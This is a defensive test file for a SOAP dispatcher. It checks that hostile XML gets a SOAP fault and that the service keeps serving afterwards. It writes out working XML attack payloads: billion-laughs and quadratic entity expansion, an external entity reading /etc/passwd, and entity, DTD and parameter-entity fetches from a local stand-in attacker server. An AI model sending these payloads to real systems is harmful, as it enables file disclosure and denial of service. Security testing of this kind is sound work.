import { after, before, test } from 'node:test';
import type { TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { startStack } from '../helpers/stack.ts';
import type { Stack } from '../helpers/stack.ts';
import { DEMO_ADMIN } from '../../src/sim/demo-fixtures.ts';
import { decodeSoapReply } from '../../src/soap/soap-reply.ts';
import { isApiFault } from '../../src/core/faults.ts';

/**
 * Hostile XML posted to the dispatcher's SOAP endpoint: each gets a SOAP fault at once, nothing
 * is expanded or fetched, and a normal call right after still works.
 */

const ENV_OPEN = '<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" xmlns:ns1="https://pb.example.com/Porta/SOAP/Customer">';
const ENV_CLOSE = '</SOAP-ENV:Envelope>';

let stack: Stack;
let sessionId: string;
const hooks: Array<() => unknown> = [];
/** Requests the "attacker's" HTTP server received (an XXE that fetched would land here). */
const fetchedByXxe: string[] = [];
let attackerUrl: string;

async function soapPost(path: string, body: string | Buffer, headers: Record<string, string> = {}): Promise<{ status: number; contentType: string; text: string; ms: number }> {
  const started = performance.now();
  const res = await fetch(`${stack.url('admin')}${path}`, { method: 'POST', headers: { 'content-type': 'text/xml; charset=utf-8', ...headers }, body });
  const text = await res.text();
  return { status: res.status, contentType: res.headers.get('content-type') ?? '', text, ms: performance.now() - started };
}

function envelope(sid: string, op: string): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n${ENV_OPEN}<SOAP-ENV:Header><auth_info><session_id>${sid}</session_id></auth_info></SOAP-ENV:Header><SOAP-ENV:Body>${op}</SOAP-ENV:Body>${ENV_CLOSE}`;
}

before(async () => {
  stack = await startStack({ after: (fn) => { hooks.push(fn); } });
  const attacker = createServer((req, res) => {
    fetchedByXxe.push(req.url ?? '');
    res.end('<!ENTITY leak "pwned">');
  });
  attacker.listen(0, '127.0.0.1');
  await once(attacker, 'listening');
  hooks.push(() => attacker.close());
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  const login = await soapPost('/soap/SessionAdminService', `<?xml version="1.0"?>${ENV_OPEN}<SOAP-ENV:Body><ns1:login><login>${DEMO_ADMIN.login}</login><password>${DEMO_ADMIN.password}</password></ns1:login></SOAP-ENV:Body>${ENV_CLOSE}`, { soapaction: '"https://pb.example.com/Porta/SOAP/Session#login"' });
  const result = decodeSoapReply(login.text) as { session_id: string };
  sessionId = result.session_id;
});

after(async () => {
  for (const h of hooks.reverse()) await h();
});

/** Posts the hostile body, checks the SOAP fault, then proves the node still serves a normal call. */
async function assertRefusedThenServes(t: TestContext, body: string | Buffer, expect: RegExp, headers: Record<string, string> = {}): Promise<string> {
  const reply = await soapPost('/soap/Customer/get_customer_info', body, headers);
  t.diagnostic(`refused in ${reply.ms.toFixed(1)} ms (${typeof body === 'string' ? Buffer.byteLength(body) : body.length} bytes)`);
  assert.equal(reply.status, 500, reply.text.slice(0, 300));
  assert.match(reply.contentType, /^text\/xml/);
  let fault: unknown;
  try {
    decodeSoapReply(reply.text);
  } catch (err) {
    fault = err;
  }
  assert.ok(isApiFault(fault), `a SOAP Fault: ${reply.text.slice(0, 300)}`);
  assert.equal(fault.faultcode, 'Client.bad_request');
  assert.match(fault.faultstring, expect);

  const normal = await soapPost('/soap/Customer/get_customer_info', envelope(sessionId, '<ns1:get_customer_info><i_customer>3</i_customer></ns1:get_customer_info>'));
  assert.equal(normal.status, 200, normal.text.slice(0, 300));
  const info = decodeSoapReply(normal.text) as { customer_info: { i_customer: number } };
  assert.equal(info.customer_info.i_customer, 3);
  return reply.text;
}

test('a billion-laughs envelope gets a SOAP fault and the node keeps serving', async (t) => {
  const entities = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
  const body = `<?xml version="1.0"?>\n<!DOCTYPE SOAP-ENV:Envelope [${entities.join('')}]>\n${envelope(sessionId, '<ns1:get_customer_info><name>&lol9;</name></ns1:get_customer_info>').replace(/^<\?xml[^>]*>\n/, '')}`;
  const text = await assertRefusedThenServes(t, body, /DOCTYPE/i);
  assert.doesNotMatch(text, /lollol/);
});

test('a quadratic blow-up envelope gets a SOAP fault and the node keeps serving', async (t) => {
  const big = 'A'.repeat(50_000);
  const refs = '&a;'.repeat(50_000);
  const body = `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY a "${big}">]>${envelope(sessionId, `<ns1:get_customer_info><name>${refs}</name></ns1:get_customer_info>`).replace(/^<\?xml[^>]*>\n/, '')}`;
  await assertRefusedThenServes(t, body, /DOCTYPE/i);
});

test('an external file entity (XXE) gets a SOAP fault without reading the file', async (t) => {
  const body = `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${envelope(sessionId, '<ns1:get_customer_info><login>&xxe;</login></ns1:get_customer_info>').replace(/^<\?xml[^>]*>\n/, '')}`;
  const text = await assertRefusedThenServes(t, body, /DOCTYPE/i);
  assert.doesNotMatch(text, /root:/);
});

test('an external http entity or DTD (XXE) gets a SOAP fault and nothing is fetched', async (t) => {
  const entity = `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY xxe SYSTEM "${attackerUrl}/entity">]>${envelope(sessionId, '<ns1:get_customer_info><login>&xxe;</login></ns1:get_customer_info>').replace(/^<\?xml[^>]*>\n/, '')}`;
  await assertRefusedThenServes(t, entity, /DOCTYPE/i);
  const dtd = `<?xml version="1.0"?><!DOCTYPE e SYSTEM "${attackerUrl}/dtd">${envelope(sessionId, '<ns1:get_customer_info><i_customer>3</i_customer></ns1:get_customer_info>').replace(/^<\?xml[^>]*>\n/, '')}`;
  await assertRefusedThenServes(t, dtd, /DOCTYPE/i);
  const parameter = `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY % p SYSTEM "${attackerUrl}/param"> %p;]>${envelope(sessionId, '<ns1:get_customer_info/>').replace(/^<\?xml[^>]*>\n/, '')}`;
  await assertRefusedThenServes(t, parameter, /DOCTYPE/i);
  assert.deepEqual(fetchedByXxe, [], 'the dispatcher fetched nothing');
});

test('deeply nested elements get a SOAP fault and the node keeps serving', async (t) => {
  const depth = 100_000;
  const body = envelope(sessionId, `<ns1:get_customer_info>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</ns1:get_customer_info>`);
  await assertRefusedThenServes(t, body, /deep|depth|nest/i);
});

test('an element flood within the body limit gets a SOAP fault and the node keeps serving', async (t) => {
  const body = envelope(sessionId, `<ns1:get_customer_info>${'<a/>'.repeat(200_000)}</ns1:get_customer_info>`);
  await assertRefusedThenServes(t, body, /elements/i);
});

test('malformed XML gets a SOAP fault and the node keeps serving', async (t) => {
  await assertRefusedThenServes(t, `${ENV_OPEN}<SOAP-ENV:Body><ns1:get_customer_info><i_customer>3</ns1:get_customer_info></SOAP-ENV:Body>${ENV_CLOSE}`, /./);
  await assertRefusedThenServes(t, `${ENV_OPEN}<SOAP-ENV:Body><ns1:get_customer_info>`, /./);
  await assertRefusedThenServes(t, 'this is not XML at all', /./);
  await assertRefusedThenServes(t, `${ENV_OPEN}<SOAP-ENV:Body><ns1:get_customer_info a="1" a="2"/></SOAP-ENV:Body>${ENV_CLOSE}`, /./);
  await assertRefusedThenServes(t, `${ENV_OPEN}<SOAP-ENV:Body><x:get_customer_info/></SOAP-ENV:Body>${ENV_CLOSE}`, /./);
});

test('an envelope in a wrong encoding gets a SOAP fault and the node keeps serving', async (t) => {
  const utf16 = Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${envelope(sessionId, '<ns1:get_customer_info><i_customer>3</i_customer></ns1:get_customer_info>').replace(/^<\?xml[^>]*>\n/, '')}`, 'utf16le');
  await assertRefusedThenServes(t, utf16, /UTF-16|encoding/i, { 'content-type': 'text/xml; charset=utf-16' });
  const latin1 = `<?xml version="1.0" encoding="ISO-8859-1"?>${envelope(sessionId, '<ns1:get_customer_info><name>caf\u00e9</name></ns1:get_customer_info>').replace(/^<\?xml[^>]*>\n/, '')}`;
  await assertRefusedThenServes(t, Buffer.from(latin1, 'latin1'), /encoding|UTF-8/i);
  const badUtf8 = Buffer.concat([Buffer.from(envelope(sessionId, '<ns1:get_customer_info><name>').replace(/<\/SOAP-ENV:Body><\/SOAP-ENV:Envelope>$/, '')), Buffer.from([0xc3, 0x28, 0xff, 0xfe]), Buffer.from('</name></ns1:get_customer_info></SOAP-ENV:Body></SOAP-ENV:Envelope>')]);
  await assertRefusedThenServes(t, badUtf8, /UTF-8/i);
});

test('an envelope over the body limit is refused and the node keeps serving', async () => {
  const huge = envelope(sessionId, `<ns1:get_customer_info><name>${'x'.repeat(2 * 1024 * 1024)}</name></ns1:get_customer_info>`);
  const reply = await soapPost('/soap/Customer/get_customer_info', huge);
  assert.equal(reply.status, 413, reply.text.slice(0, 300));
  assert.match(reply.text, /<faultcode>Server\.Dispatcher\.body_too_large<\/faultcode>/, 'a SOAP client gets a SOAP fault');
  const normal = await soapPost('/soap/Customer/get_customer_info', envelope(sessionId, '<ns1:get_customer_info><i_customer>3</i_customer></ns1:get_customer_info>'));
  assert.equal(normal.status, 200, normal.text.slice(0, 300));
});
